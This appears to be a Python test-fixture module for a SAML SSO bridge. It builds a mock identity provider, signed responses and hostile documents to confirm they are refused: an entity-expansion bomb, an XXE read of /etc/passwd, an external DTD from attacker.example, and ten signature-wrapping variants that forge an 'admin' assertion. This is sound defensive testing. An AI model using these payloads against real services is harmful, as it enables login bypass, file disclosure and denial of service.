"""SAML documents for tests: a mock IdP with one service provider, signed login responses,
re-signing, and the signature-wrapping (XSW) variants."""

from __future__ import annotations

import base64
import copy
from typing import Any

import xmlsec
from lxml import etree

from helpers.clock import FixedClock
from mock_idp.saml_idp import AuthnRequestInfo, SamlFault, SamlIdP, SamlSigningKey
from mock_idp.users import Person, person_from_dict
from sso_bridge.saml import (
    InMemoryReplayCache,
    InMemoryRequestStore,
    SamlError,
    parse_xml,
    process_response,
)

BASE = "https://idp.example"


SP = "https://sp.example/metadata"


ACS = "https://sp.example/acs"


SAML = "urn:oasis:names:tc:SAML:2.0:assertion"


SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"


DS = "http://www.w3.org/2000/09/xmldsig#"


NS = {"saml": SAML, "samlp": SAMLP, "ds": DS}


ASSERTION_XPATH = "/samlp:Response/saml:Assertion[1]"


PERSON_DATA: dict[str, Any] = {
    "oid": 1000299654,
    "login": "maria@example.org",
    "password": "secret",
    "last_name": "Смирнова",
    "first_name": "Мария",
    "middle_name": "Петровна",
    "birth_date": "12.03.1984",
    "gender": "F",
    "level": "confirmed",
    "snils": "112-233-445 95",
    "contacts": [
        {"type": "EML", "value": "maria@example.org", "verified": True},
        {"type": "MBT", "value": "+7(900)0000001", "verified": True},
    ],
}
"""A confirmed person with every attribute ESIA releases."""
PERSON = person_from_dict(PERSON_DATA)


ENC_SP = "https://enc.example/metadata"
"""A service provider that wants its assertions encrypted (see :func:`encrypting_sp`)."""

ENC_ACS = "https://enc.example/acs"


def encrypting_sp(idp: SamlIdP) -> SamlSigningKey:
    """Register :data:`ENC_SP` at ``idp`` with a new key to encrypt assertions for; the key."""
    key = SamlSigningKey.generate("sp")
    idp.register_sp_settings(
        ENC_SP, ENC_ACS, certificate_pem=key.certificate_pem(), encrypt_assertions=True
    )
    return key


def acs_outcome(document: bytes, config: Any) -> str:
    """``accepted``, or the code of the refusal, for ``document`` posted to the ACS."""
    try:
        process_response(
            base64.b64encode(document).decode(),
            config,
            request_store=InMemoryRequestStore(),
            replay_cache=InMemoryReplayCache(),
            clock=FixedClock(),
        )
    except SamlError as exc:
        return exc.code
    return "accepted"


def make_idp() -> SamlIdP:
    idp = SamlIdP(BASE, clock=FixedClock())
    idp.register_sp_settings(SP, ACS)
    return idp


def request_info(request_id: str = "_req1") -> AuthnRequestInfo:
    return AuthnRequestInfo(id=request_id, sp_entity_id=SP, acs_url=ACS, binding="post")


def response_xml(
    idp: SamlIdP,
    request: AuthnRequestInfo | None = None,
    faults: tuple[SamlFault, ...] = (),
    person: Person = PERSON,
) -> bytes:
    form = idp.login_response(request, person, faults=faults, sp_entity_id=SP)
    return base64.b64decode(form.fields["SAMLResponse"])


def to_bytes(root: Any) -> bytes:
    return bytes(etree.tostring(root))


def sign(
    element: Any, key: SamlSigningKey, method: Any = xmlsec.constants.TransformRsaSha256
) -> None:
    """(Re)sign ``element`` in place as the mock IdP does: enveloped, exc-c14n, RSA-SHA256."""
    sign_with(element, key.key_pem(), key.certificate_pem(), method)


def sign_with(element: Any, key_pem: bytes, certificate_pem: bytes, method: Any) -> None:
    for old in element.findall("ds:Signature", NS):
        element.remove(old)
    c = xmlsec.constants
    signature = xmlsec.template.create(element, c.TransformExclC14N, method, ns="ds")
    position = 1 if element.find("saml:Issuer", NS) is not None else 0
    element.insert(position, signature)
    reference = xmlsec.template.add_reference(
        signature, c.TransformSha256, uri="#" + element.get("ID")
    )
    xmlsec.template.add_transform(reference, c.TransformEnveloped)
    xmlsec.template.add_transform(reference, c.TransformExclC14N)
    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_memory(key_pem, c.KeyDataFormatPem)
    context.key.load_cert_from_memory(certificate_pem, c.KeyDataFormatCertPem)
    context.register_id(element, "ID")
    context.sign(signature)


def assertion_of(root: Any) -> Any:
    return root.find("saml:Assertion", NS)


def element_id(document: Any, selector: str) -> str:
    """The ID of the element a consumer would look for: ``selector`` is an ID, or an XPath
    that the test (never the library) evaluates to pick the element by position."""
    if not selector.startswith("/"):
        return selector
    root = parse_xml(document) if isinstance(document, bytes) else document
    found = root.getroottree().xpath(selector, namespaces=NS)
    return str(found[0].get("ID")) if found else "_absent"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x">&lol4;</samlp:Response>
"""


EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x">&xxe;</samlp:Response>
"""


EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x"/>
"""


def _evil_assertion(root: Any, *, keep_signature: bool) -> Any:
    evil = copy.deepcopy(assertion_of(root))
    evil.set("ID", "_evil")
    evil.find("saml:Subject/saml:NameID", NS).text = "admin"
    if not keep_signature:
        evil.remove(evil.find("ds:Signature", NS))
    return evil


def xsw(variant: str, xml: bytes) -> Any:
    """A wrapping attack built from a correctly signed Response."""
    root = parse_xml(xml)
    original = assertion_of(root)
    if variant == "xsw1":  # evil Response; the original inside its copied signature's Object
        evil = copy.deepcopy(root)
        evil.set("ID", "_evil_response")
        signature = evil.find("ds:Signature", NS)
        etree.SubElement(signature, f"{{{DS}}}Object").append(copy.deepcopy(root))
        return evil
    if variant == "xsw2":  # evil Response; the original beside its copied signature
        evil = copy.deepcopy(root)
        evil.set("ID", "_evil_response")
        evil.find("ds:Signature", NS).addprevious(copy.deepcopy(root))
        return evil
    root.remove(root.find("ds:Signature", NS))  # the response signature is not checked
    if variant == "xsw3":  # evil assertion before the original
        original.addprevious(_evil_assertion(root, keep_signature=False))
    elif variant == "xsw4":  # evil assertion wraps the original
        evil = _evil_assertion(root, keep_signature=False)
        original.addprevious(evil)
        evil.append(original)
    elif variant == "xsw5":  # evil assertion with the copied signature; original after it
        original.addprevious(_evil_assertion(root, keep_signature=True))
    elif variant == "xsw6":  # original inside the Object of the evil one's copied signature
        evil = _evil_assertion(root, keep_signature=True)
        original.addprevious(evil)
        etree.SubElement(evil.find("ds:Signature", NS), f"{{{DS}}}Object").append(original)
    elif variant == "xsw7":  # original inside Extensions, evil assertion in its place
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        original.addprevious(extensions)
        original.addprevious(_evil_assertion(root, keep_signature=False))
        extensions.append(original)
    elif variant == "xsw8":  # original, unsigned, inside the Object of the evil one's signature
        evil = _evil_assertion(root, keep_signature=True)
        original.addprevious(evil)
        inner = copy.deepcopy(original)
        inner.remove(inner.find("ds:Signature", NS))
        etree.SubElement(evil.find("ds:Signature", NS), f"{{{DS}}}Object").append(inner)
        root.remove(original)
    elif variant == "cloned_response_signature":  # evil assertion signed "by" the response
        evil = _evil_assertion(root, keep_signature=False)
        signature = copy.deepcopy(parse_xml(xml).find("ds:Signature", NS))
        evil.find("saml:Issuer", NS).addnext(signature)
        original.addprevious(evil)
        root.remove(original)
    elif variant == "moved_signature":  # the assertion's signature moved up to the Response
        signature = original.find("ds:Signature", NS)
        root.find("saml:Issuer", NS).addnext(signature)
    else:
        raise AssertionError(variant)
    return root


XSW_AT_VERIFY = [
    ("xsw1", "/samlp:Response", "saml.object_forbidden"),
    ("xsw2", "/samlp:Response", "saml.reference_mismatch"),
    ("xsw3", ASSERTION_XPATH, "saml.unsigned"),
    ("xsw4", ASSERTION_XPATH, "saml.unsigned"),
    ("xsw5", ASSERTION_XPATH, "saml.reference_mismatch"),
    ("xsw6", ASSERTION_XPATH, "saml.object_forbidden"),
    ("xsw7", ASSERTION_XPATH, "saml.unsigned"),
    ("xsw8", ASSERTION_XPATH, "saml.object_forbidden"),
    ("cloned_response_signature", ASSERTION_XPATH, "saml.reference_mismatch"),
    ("moved_signature", ASSERTION_XPATH, "saml.unsigned"),
]
